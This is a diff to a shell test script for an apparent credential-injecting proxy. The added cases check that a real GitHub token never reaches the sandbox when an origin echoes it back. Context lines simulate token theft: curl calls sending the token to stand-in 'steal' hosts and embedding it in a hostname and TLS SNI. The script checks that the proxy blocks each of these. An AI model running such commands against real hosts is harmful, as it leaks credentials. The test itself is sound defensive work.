@@ -42,6 +42,8 @@ curl -sS --max-time 20 -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https:/
 curl -sS --max-time 20 -o /dev/null -u "octo:$GH_TOKEN" https://origin.test/with-basic
 curl -sS --max-time 20 -o /dev/null "https://origin.test/in-query?access_token=$GH_TOKEN"
 echo "misdirected $(curl -s --max-time 20 -o /dev/null -D - -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal | tr -d '\r' | awk '/^HTTP|^X-Tollgate/' | tr '\n' ' ')"
+echo "echo-header $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-header/Authorization)"
+echo "echo-chunks $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-chunks | sha256sum | cut -c1-64)"
 echo "misdirected-connect $(curl -s --max-time 20 -o /dev/null -w '%{http_connect}' "https://$GH_TOKEN.blind.test/")"
 echo "misdirected-sni $(echo | openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect blind.test:443 -servername "$GH_TOKEN.blind.test" 2>&1 | grep -c 'BEGIN CERTIFICATE')"
 echo "misdirected-basic $(curl -s --max-time 20 -o /dev/null -w '%{http_code}' -u "octo:$GH_TOKEN" https://other.test/steal2)"
@@ -84,6 +86,10 @@ expect_match "... inside Authorization: Basic" \
 	"auth=Basic $(printf 'octo:%s' "$REAL" | base64 -w0)\$"
 expect_match "... in the request line" \
 	"$(grep 'REQ GET /in-query' "$TEST_TMP/origin.log" || true)" "access_token=$REAL "
+expect_eq "an origin echoing the value: the sandbox gets the placeholder" "$(result echo-header)" \
+	"Bearer $ph"
+want=$(python3 -c 'import hashlib,sys; a=("Bearer "+sys.argv[1]).encode(); print(hashlib.sha256(b"".join(b"x"*k+a for k in range(50))).hexdigest())' "$ph")
+expect_eq "... also when every 7-byte chunk boundary cuts a value" "$(result echo-chunks)" "$want"
 expect_match "the placeholder sent to another inspected host is refused" \
 	"$(result misdirected)" "HTTP/1.1 403 .*X-Tollgate-Reason: secret-misdirected"
 expect_eq "... inside Basic credentials too" "$(result misdirected-basic)" "403"
